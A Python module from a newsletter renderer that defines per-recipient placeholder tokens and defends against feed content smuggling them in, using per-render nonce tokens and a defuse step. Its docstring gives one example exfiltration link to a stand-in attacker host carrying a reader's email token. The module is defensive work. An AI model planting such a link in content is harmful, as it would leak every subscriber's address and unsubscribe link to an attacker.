"""Per-recipient placeholders: the issue is rendered once with these in it and each backend fills them.

The `%%NAME%%` form survives Jinja autoescaping, the MJML compilers and HTML attribute quoting unchanged.

Only the templates may place one. Feed text is the feed author's (a link `https://attacker.example/?e=%%email%%`
would otherwise carry every reader's address and unsubscribe link to the attacker), so `render_issue` renders
with per-render tokens that content cannot know (`%%email.<nonce>%%`) and then, in the finished HTML and text,
first defuses every fixed-form token that is left (content's, however it was spelled before the MJML compiler
decoded it) and only then turns its own into the fixed form the backends fill. The fill is plain string
replacement (outbox, SMTP) or SendGrid's substitutions, both literal, so a defused token stays inert.
"""

from __future__ import annotations

import re
import secrets
from functools import lru_cache

UNSUBSCRIBE_URL = "%%unsubscribe_url%%"
MANAGE_URL = "%%manage_url%%"  # the reader's "manage your subscription" page
EMAIL = "%%email%%"
NAME = "%%name%%"
# The recipient's "this summary is wrong" link prefix, `{base}/f/TOKEN` (newsletter.web.feedback); the
# templates append `/{issue number}/{story position}`.
FEEDBACK_URL = "%%feedback_url%%"
RECIPIENT = "%%recipient%%"  # the reader in tracked links and the open pixel (newsletter.render.tracking)

ALL = {"unsubscribe_url": UNSUBSCRIBE_URL, "manage_url": MANAGE_URL, "email": EMAIL, "name": NAME,
       "feedback_url": FEEDBACK_URL, "recipient": RECIPIENT}

# Any text a backend could take for a token: `%%email%%`, SendGrid's `%%email:html%%`, and longer look-alikes.
_FIXED = re.compile(r"%%(?=(?:" + "|".join(ALL) + r"))")
_DEFUSED = "%%\u2060"  # a word joiner after the marks: reads the same, matches no token


@lru_cache(maxsize=16)  # a send asks once a batch about the same issue's bodies (a string's hash is kept with it)
def keys_in(body: str) -> tuple[str, ...]:
    """The keys of the tokens `body` holds, in ALL's order."""
    return tuple(key for key, token in ALL.items() if token in body)


def fill(body: str, values: dict[str, str]) -> str:
    """Replace each token with the recipient's value (missing values become empty)."""
    for key, token in ALL.items():
        if token in body:
            body = body.replace(token, values.get(key, ""))
    return body


def defuse(text: str) -> str:
    """`text` with every token-like mark broken (for content: titles, subjects, anything from a feed)."""
    return _FIXED.sub(_DEFUSED, text)


def render_tokens() -> dict[str, str]:
    """Fresh tokens for one render, unknowable to the content being rendered."""
    nonce = secrets.token_hex(6)  # 48 bits, drawn after the content was fixed: nothing to guess it from
    return {key: f"%%{key}.{nonce}%%" for key in ALL}


def finish(rendered: str, own: dict[str, str]) -> str:
    """Defuse content's tokens in a finished render, then turn the render's own tokens into the fixed form."""
    rendered = defuse(rendered)
    for key, token in own.items():
        rendered = rendered.replace(defuse(token), ALL[key])
    return rendered
